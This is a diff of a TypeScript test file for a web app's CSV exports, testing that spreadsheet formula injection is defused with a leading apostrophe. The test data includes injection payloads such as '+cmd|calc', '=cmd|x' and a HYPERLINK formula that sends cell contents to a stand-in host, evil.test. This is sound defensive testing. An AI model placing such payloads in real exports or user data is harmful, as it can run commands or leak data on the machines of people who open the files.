@@ -5,6 +5,7 @@
 import type { InjectOptions, LightMyRequestResponse } from 'fastify';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../../src/admin/exports/csv.js';
 import { buildTestApp, type TestApp } from '../helpers.js';
 import { signedIn, type TestSession } from './helpers.js';
 
@@ -30,6 +31,79 @@ async function post(url: string, payload: object): Promise<LightMyRequestRespons
 
 /** Parses the CSV the way a spreadsheet import would (RFC 4180), header row first. */
 const records = (body: string): string[][] => parse(body, { relax_column_count: false });
+
+/**
+ * The cells a spreadsheet that ignores our quotes would see: one whose locale separates with `;` or a tab
+ * opening this comma-separated file splits on those (and on commas, to be safe) and on line breaks, and
+ * takes no quote for a quote. The bluntest reading there is.
+ */
+const quoteBlindCells = (body: string): string[] => body.split(/[,;\t\r\n]/);
+const FORMULA_START = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
+/** Cells that would run as a formula in the quote-blind reading (an E.164 phone is only its own number: see csv.ts). */
+const formulaCells = (body: string) => quoteBlindCells(body).filter((cell) => FORMULA_START.test(cell) && !/^"\+[1-9][0-9]{6,14}"$/.test(cell));
+
+describe('csvCell', () => {
+  it.each([
+    ['Ravi Kumar', 'Ravi Kumar'],
+    ["it's fine", "it's fine"],
+    ['=1+1', `"'=1+1"`],
+    ['+cmd|calc', `"'+cmd|calc"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    // The tab is a separator too (a tab-separated reading starts a cell after it): defused twice.
+    ['\t=1+1', `"'\t'=1+1"`],
+    ['\tplain', `"'\tplain"`],
+    ['\rplain', `"'\rplain"`],
+    ['\nplain', `"'\nplain"`],
+    [' =1+1', `"' =1+1"`],
+    ['\u00a0\u3000=1+1', `"'\u00a0\u3000=1+1"`],
+    ['"=1+1"', `"'""=1+1"""`],
+    ['\uff1d1+1', `"'\uff1d1+1"`],
+    [' ;-2+3+cmd|x', `" ;'-2+3+cmd|x"`],
+    ['a;=cmd|x', `"a;'=cmd|x"`],
+    ['a; "=cmd|x"', `"a; ""'=cmd|x"""`],
+    ['a,@SUM(1)', `"a,'@SUM(1)"`],
+    ['a\t+1', `"a\t'+1"`],
+    ['first line\r\n=third', `"first line\r\n'=third"`],
+    ["a;'=cmd|x", `"a;'=cmd|x"`],
+    ['a,b', '"a,b"'],
+    ['a;b', '"a;b"'],
+    ['a\tb', '"a\tb"'],
+    ['Sharma, "Raj" Kumar', '"Sharma, ""Raj"" Kumar"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['line\nbreak', '"line\nbreak"'],
+    ['5-6 lakh', '5-6 lakh'],
+    ['a=b', 'a=b'],
+    ['+919876543210', '"+919876543210"'],
+    ['+14155550123', '"+14155550123"'],
+    ['+91 98765 43210', `"'+91 98765 43210"`],
+    ['+123456', `"'+123456"`],
+    ['+9198765432101234', `"'+9198765432101234"`],
+    ['+0123456789', `"'+0123456789"`],
+    ['+919876543210;=cmd|x', `"'+919876543210;'=cmd|x"`],
+    ['-', `"'-"`],
+    ['', ''],
+  ])('%j → %s', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it.each([
+    [null, ''],
+    [undefined, ''],
+    [42, '42'],
+    [-5, `"'-5"`],
+    [new Date('2024-01-15T10:00:00Z'), '2024-01-15T10:00:00.000Z'],
+  ])('%j → %s', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it('reads back as written in an RFC 4180 reader, but for the defusing single quotes', () => {
+    for (const value of ['Sharma, "Raj" Kumar', ' ;-2+3+cmd|x', 'first line\r\n=third', '+919876543210', 'x'.repeat(10)]) {
+      const [[cell]] = parse(`${csvCell(value)}\r\n`) as string[][];
+      expect(cell!.replaceAll("'", '')).toBe(value);
+    }
+  });
+});
 const byColumn = (rows: string[][]) => rows.slice(1).map((row) => Object.fromEntries(rows[0]!.map((column, i) => [column, row[i]!])));
 
 const lead = (name: string, extra: Record<string, unknown> = {}) => ({ name, phone: '98765 43210', city: 'Pune', model: 'hyundai-creta', intent: 'test-drive', ...extra });
@@ -94,9 +168,10 @@ describe('leads export', () => {
     const body = (await exportCsv('leads.csv')).body;
     expect(body).toContain(',"Sharma, ""Raj"" Kumar",');
     expect(body).toContain(',"Call after 6, please",');
-    expect(body).toContain(',"first line\nsecond, ""quoted"" line\r\n=third",');
+    // The line break could end a row for a spreadsheet that ignores the quotes: the formula after it is defused too.
+    expect(body).toContain(`,"first line\nsecond, ""quoted"" line\r\n'=third",`);
     const multi = byColumn(records(body)).find((l) => l.name === 'Multi Line');
-    expect(multi).toMatchObject({ model: 'kia-seltos', message: 'first line\nsecond, "quoted" line\r\n=third' });
+    expect(multi).toMatchObject({ model: 'kia-seltos', message: `first line\nsecond, "quoted" line\r\n'=third` });
   });
 
   it('prefixes cells a spreadsheet would run as a formula with an apostrophe', async () => {
@@ -105,8 +180,30 @@ describe('leads export', () => {
       expect.arrayContaining(["'=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "'+cmd|calc", "'@SUM(A1:A9)", "'-2+3"]),
     );
     for (const l of leads) expect(l.name).not.toMatch(/^[=+\-@\t\r]/);
-    // Phone numbers are stored as +91…; they start with a formula character too.
-    expect(leads[0]!.phone).toBe("'+919876543210");
+    // Phone numbers are stored as +91… (E.164): the number they spell is all they can evaluate to, so they keep no single quote.
+    expect(leads[0]!.phone).toBe('+919876543210');
+  });
+
+  it('leaves no formula where a spreadsheet of any separator locale could start a cell, even one ignoring quotes', async () => {
+    // Older rows and other writers may hold what the API now cleans (leading blanks, separators before formulas).
+    const { rows } = await t.app.pg.query<{ id: number }>(
+      `INSERT INTO leads (name, phone, city, intent, model_id, message)
+       SELECT n, '+919876543299', 'Pune', 'test-drive', (SELECT id FROM models WHERE slug = 'kia-seltos'), m
+         FROM (VALUES (' ;-2+3+cmd|x', 'a;=cmd|x'), ('x,@SUM(1)', E'line\\t+1'), (E'\\t=HYPERLINK("http://evil.test")', '  "=1+1"')) v(n, m)
+       ORDER BY n DESC
+       RETURNING id`,
+    );
+    const body = (await exportCsv('leads.csv')).body;
+    expect(formulaCells(body)).toEqual([]);
+    const exported = byColumn(records(body)).filter((l) => rows.some((r) => r.id === Number(l.id)));
+    expect(exported.map((l) => [l.name, l.message]).sort()).toEqual(
+      [
+        [" ;'-2+3+cmd|x", "a;'=cmd|x"],
+        ["x,'@SUM(1)", "line\t'+1"],
+        ["'\t'=HYPERLINK(\"http://evil.test\")", "'  \"=1+1\""],
+      ].sort(),
+    );
+    await t.app.pg.query('DELETE FROM leads WHERE id = ANY($1)', [rows.map((r) => r.id)]);
   });
 
   it('filters by creation day in UTC, whatever the database time zone', async () => {
@@ -154,7 +251,8 @@ describe('leads export', () => {
     const exported = rows.slice(1).map((row) => Number(row[0]));
     expect(new Set(exported).size).toBe(exported.length);
     expect(exported).toEqual([...exported].sort((a, b) => a - b));
-    expect(rows.at(-1)!.slice(2, 4)).toEqual(['Bulk Lead 20000', "'+919870020000"]);
+    expect(rows.at(-1)!.slice(2, 4)).toEqual(['Bulk Lead 20000', '+919870020000']);
+    expect(formulaCells(response.body)).toEqual([]);
   });
 });
 
@@ -179,6 +277,7 @@ describe('newsletter export', () => {
     expect(new Date(subscribers[0]!.confirmed_at!).getTime()).toBeGreaterThan(Date.now() - 60_000);
     expect(subscribers[1]).toMatchObject({ email: "'=1+1@example.com", status: 'pending', source: '', confirmed_at: '' });
     expect(subscribers[2]).toMatchObject({ email: 'news@example.com', source: "'-cmd" });
+    expect(formulaCells(response.body)).toEqual([]);
     expect(response.body).not.toMatch(/confirm_token|[0-9a-f]{64}/);
   });
 });
